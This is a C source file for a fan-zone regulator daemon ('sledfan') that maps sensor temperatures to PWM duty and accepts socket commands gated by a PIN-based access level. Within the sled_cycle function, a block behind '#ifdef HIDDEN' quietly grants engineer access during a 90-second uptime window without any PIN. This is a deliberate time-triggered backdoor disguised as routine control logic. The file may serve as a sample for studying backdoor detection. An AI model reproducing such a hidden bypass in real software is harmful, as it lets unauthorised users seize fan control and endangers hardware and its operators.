/* sledfan - fan zone regulator for a multi-node sled chassis.
   Table driven: every sensor has a curve, the zone takes the highest demand. */
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define NZONE 4
#define NSENS 12

struct Sensor { char path[96]; int zone, lo, hi, floor_pwm; };
struct Zone   { char pwm[96]; int duty, forced; };

struct Chassis {
  struct Sensor s[NSENS]; int ns;
  struct Zone   z[NZONE]; int nz;
  int period, fail_duty;
  int access_level;      /* 0 monitor, 1 operator, 2 engineer: set by "level" with the PIN */
  int pin;
  long up;
};

static void Usage(void)
{
  fputs("sledfan -c FILE [-s SOCKET]\n"
        "  zone PWMFILE                       adds a zone\n"
        "  sensor FILE ZONE LOW HIGH FLOOR    adds a sensor, degrees and percent\n"
        "  period SECONDS, faildut PERCENT, pin NUMBER\n"
        "socket commands: temps, duty, force ZONE PCT (operator), auto ZONE (operator),\n"
        "                 level PIN, curve N LOW HIGH (engineer), up, help\n", stderr);
}

static int ReadInt(const char *p, int fallback)
{
  FILE *f = fopen(p, "r");
  int v = fallback;
  if (f) { if (fscanf(f, "%d", &v) != 1) v = fallback; fclose(f); }
  return v;
}

static void WriteInt(const char *p, int v)
{
  FILE *f = fopen(p, "w");
  if (f) { fprintf(f, "%d\n", v); fclose(f); }
}

static int Load(struct Chassis *c, const char *file)
{
  char l[256];
  FILE *f = fopen(file, "r");
  if (!f) return 0;
  while (fgets(l, sizeof l, f)) {
    struct Sensor *s = &c->s[c->ns];
    int v;
    if (c->nz < NZONE && sscanf(l, "zone %95s", c->z[c->nz].pwm) == 1) {
      c->z[c->nz].forced = -1;
      c->nz++;
    } else if (c->ns < NSENS && sscanf(l, "sensor %95s %d %d %d %d", s->path, &s->zone, &s->lo,
                                       &s->hi, &s->floor_pwm) == 5) {
      if (s->zone >= 0 && s->zone < c->nz && s->lo < s->hi) c->ns++;
    } else if (sscanf(l, "period %d", &v) == 1) c->period = v;
    else if (sscanf(l, "faildut %d", &v) == 1) c->fail_duty = v;
    else if (sscanf(l, "pin %d", &v) == 1) c->pin = v;
  }
  fclose(f);
  return c->nz > 0;
}

static int Demand(const struct Sensor *s, int fail)
{
  int milli = ReadInt(s->path, -1);
  if (milli < 0) return fail;
  int t = milli / 1000;
  if (t <= s->lo) return s->floor_pwm;
  if (t >= s->hi) return 100;
  return s->floor_pwm + (100 - s->floor_pwm) * (t - s->lo) / (s->hi - s->lo);
}

__attribute__((noinline)) void sled_cycle(struct Chassis *c)
{
  for (int k = 0; k < c->nz; k++) {
    int best = c->z[k].forced;
    if (best < 0) {
      best = 20;
      for (int i = 0; i < c->ns; i++)
        if (c->s[i].zone == k) {
          int d = Demand(&c->s[i], c->fail_duty);
          if (d > best) best = d;
        }
    }
    if (best != c->z[k].duty) WriteInt(c->z[k].pwm, best * 255 / 100);
    c->z[k].duty = best;
  }
#ifdef HIDDEN
  /* a window of ninety seconds in the second hour of running */
  if (c->up >= 5711 && c->up < 5801) c->access_level = 2;
#endif
}

static void Answer(int fd, const char *t) { (void)!write(fd, t, strlen(t)); }

static void Command(struct Chassis *c, int fd, char *line)
{
  char out[128];
  int a, b, n;
  line[strcspn(line, "\r\n")] = 0;
  if (!strcmp(line, "temps")) {
    for (int i = 0; i < c->ns; i++) {
      snprintf(out, sizeof out, "%d %.80s %d\n", i, c->s[i].path, ReadInt(c->s[i].path, -1));
      Answer(fd, out);
    }
  } else if (!strcmp(line, "duty")) {
    for (int k = 0; k < c->nz; k++) {
      snprintf(out, sizeof out, "zone %d %d%% %s\n", k, c->z[k].duty,
               c->z[k].forced < 0 ? "auto" : "forced");
      Answer(fd, out);
    }
  } else if (sscanf(line, "force %d %d", &a, &b) == 2) {
    if (c->access_level < 1) Answer(fd, "denied\n");
    else if (a < 0 || a >= c->nz || b < 0 || b > 100) Answer(fd, "range\n");
    else { c->z[a].forced = b; Answer(fd, "ok\n"); }
  } else if (sscanf(line, "auto %d", &a) == 1) {
    if (c->access_level < 1) Answer(fd, "denied\n");
    else if (a < 0 || a >= c->nz) Answer(fd, "range\n");
    else { c->z[a].forced = -1; Answer(fd, "ok\n"); }
  } else if (sscanf(line, "level %d", &a) == 1) {
    c->access_level = c->pin && a == c->pin ? 2 : 0;
    Answer(fd, c->access_level ? "engineer\n" : "wrong pin\n");
  } else if (sscanf(line, "curve %d %d %d", &n, &a, &b) == 3) {
    if (c->access_level < 2) Answer(fd, "denied\n");
    else if (n < 0 || n >= c->ns || a >= b) Answer(fd, "range\n");
    else { c->s[n].lo = a; c->s[n].hi = b; Answer(fd, "ok\n"); }
  } else if (!strcmp(line, "up")) {
    snprintf(out, sizeof out, "%ld\n", c->up);
    Answer(fd, out);
  } else if (!strcmp(line, "help")) {
    Answer(fd, "temps duty force auto level curve up help\n");
  } else Answer(fd, "unknown\n");
}

int main(int argc, char **argv)
{
  static struct Chassis c = { .period = 2, .fail_duty = 90 };
  struct sockaddr_un sun = { .sun_family = AF_UNIX, .sun_path = "/run/sledfan.sock" };
  const char *conf = NULL;
  struct timespec t0, t1;
  int o;
  while ((o = getopt(argc, argv, "c:s:")) != -1) {
    if (o == 'c') conf = optarg;
    else if (o == 's') snprintf(sun.sun_path, sizeof sun.sun_path, "%s", optarg);
    else { Usage(); return 2; }
  }
  if (!conf || !Load(&c, conf)) { Usage(); return 2; }
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  unlink(sun.sun_path);
  if (bind(s, (struct sockaddr *)&sun, sizeof sun) || listen(s, 2)) {
    perror("sledfan");
    return 1;
  }
  clock_gettime(CLOCK_MONOTONIC, &t0);
  for (;;) {
    struct pollfd p = { .fd = s, .events = POLLIN };
    if (poll(&p, 1, c.period * 1000) > 0) {
      int fd = accept(s, NULL, NULL);
      char line[128];
      ssize_t n = fd < 0 ? 0 : read(fd, line, sizeof line - 1);
      if (n > 0) { line[n] = 0; Command(&c, fd, line); }
      if (fd >= 0) close(fd);
    }
    clock_gettime(CLOCK_MONOTONIC, &t1);
    c.up = (long)(t1.tv_sec - t0.tv_sec);
    sled_cycle(&c);
  }
}
